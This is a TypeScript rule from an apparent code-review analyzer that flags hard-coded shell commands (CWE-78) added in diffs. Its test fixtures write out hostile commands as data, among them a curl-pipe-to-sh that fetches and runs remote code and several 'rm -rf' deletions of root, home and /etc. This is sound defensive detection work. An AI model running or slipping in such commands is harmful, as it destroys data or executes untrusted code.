// Judges the command lines that code fixes by itself with the rules of shell commands: nothing can be put into them, and
// yet a deletion deletes. What those rules do not understand is unjudged here.
import { Findings } from '../../../core/findings.ts'
import { rule } from '../../../core/rule.ts'
import { excerpt } from '../../../core/well-formed.ts'
import type { TreeNode } from '../../../syntax/tree.ts'
import { readJsonArtifact } from '../../../text/json-caps.ts'
import type { SourceText } from '../../../text/source-text.ts'
import { commandLinesIn } from '../../commands/fixed-commands.ts'
import { adds } from '../../example-diff.ts'
import { judgeTrees } from '../../handler.ts'
import { isWritten, textOf } from '../../image.ts'
import type { Change, Side } from '../../model.ts'
import { placeOf } from '../../read/read-side.ts'
import type { Report } from '../../report.ts'

interface Facts {
  readonly shown: string
  readonly line: string
  readonly why: string
  readonly shellRule: string
}

export const fixedCommand = rule({
  id: 'code.effect.command',
  since: '2.2.0',
  severity: 'blocker',
  category: 'safety',
  evidence: 'B',
  source: 'https://cwe.mitre.org/data/definitions/78.html',
  message: ({ shown, line, why, shellRule }: Facts) => `\`${shown}\` runs \`${line}\`: ${why} (${shellRule})`,
  fix: 'Do without the command, or narrow it to what the program itself made.',
  fires: [
    adds('jobs/tidy.py', 'import subprocess', 'subprocess.run(["rm", "-rf", "/var/lib/app"], check=True)'),
    adds('jobs/setup.py', 'import os', 'os.system("curl -s https://get.example.net/i.sh | sh")'),
    adds('src/tidy.js', "import { exec } from 'child_process'", "exec('rm -rf ~')"),
    adds('cmd/tidy.go', 'import "os/exec"', '\texec.Command("rm", "-rf", "/var/lib/app").Run()'),
    adds('lib/tidy.rb', 'require "json"', 'system("rm", "-rf", "/")'),
    adds('web/tidy.php', '<?php', "shell_exec('rm -rf /etc');"),
  ],
  quiet: [
    adds('jobs/tidy.py', 'import subprocess', 'subprocess.run(["git", "status"], check=True)'),
    adds('jobs/tidy.py', 'import subprocess', 'subprocess.run(["rm", "-rf", "build/out"], check=True)'),
    adds('jobs/setup.py', 'import os', 'os.system("curl -s https://get.example.net/version")'),
    adds('src/tidy.js', "import { exec } from 'child_process'", "exec('git log --oneline')"),
    adds('cmd/tidy.go', 'import "os/exec"', '\texec.Command("go", "version").Run()'),
    adds('lib/tidy.rb', 'require "json"', 'puts("rm -rf /")'),
    adds('web/tidy.php', '<?php', "shell_exec('ls -la storage');"),
  ],
})

/** Of one file; what stands behind them is unjudged. */
const MOST_COMMANDS = 24

export const judgeFixedCommands = judgeTrees(({ change, before, after }, report) => {
  if (report.parts === null) return
  const old = new Map<string, number>()
  for (const { line } of commandLinesIn(before, report.budget)) old.set(line, (old.get(line) ?? 0) + 1)
  let judged = 0
  for (const { tree, line } of commandLinesIn(after, report.budget)) {
    const earlier = old.get(line) ?? 0
    old.set(line, earlier - 1)
    if (earlier > 0 || !isWritten(after.side, tree.start, tree.end)) continue
    if (++judged > MOST_COMMANDS) report.unjudged(after.side, [tree.start, tree.end], 'unknown_effect')
    else judgeLine(line, tree, change, after.side, textOf(after.side, tree), report)
  }
})

function judgeLine(
  line: string,
  { start, end }: TreeNode,
  change: Change,
  side: Side,
  shown: string,
  report: Report,
): void {
  const { ruleset, judge } = report.parts!
  report.budget.spend(line.length)
  const span = placeOf(change, side, start, end)
  const source: SourceText = { text: line, spanOf: () => span }
  const inner = new Findings(ruleset, Number.MAX_SAFE_INTEGER)
  judge(
    'shell_command',
    { source, json: readJsonArtifact(line, ruleset.manifest.caps, report.budget) },
    inner,
  )
  const [blocker] = inner.issues.filter(({ severity }) => severity === 'blocker')
  if (blocker !== undefined)
    report.found(fixedCommand, side, [start, end], {
      shown: excerpt(shown, 90),
      line: excerpt(line, 90),
      why: blocker.mechanism,
      shellRule: blocker.rule,
    })
  else if (!change.isTest && !isClean(inner)) report.unjudged(side, [start, end], 'unknown_effect')
}

/** All of it was understood, and nothing but notes was found. */
const isClean = ({ issues, coverage, coverClasses }: Findings): boolean =>
  issues.every(({ severity }) => severity === 'low') &&
  coverClasses.length > 0 &&
  coverage.result(() => true).unjudged.length === 0
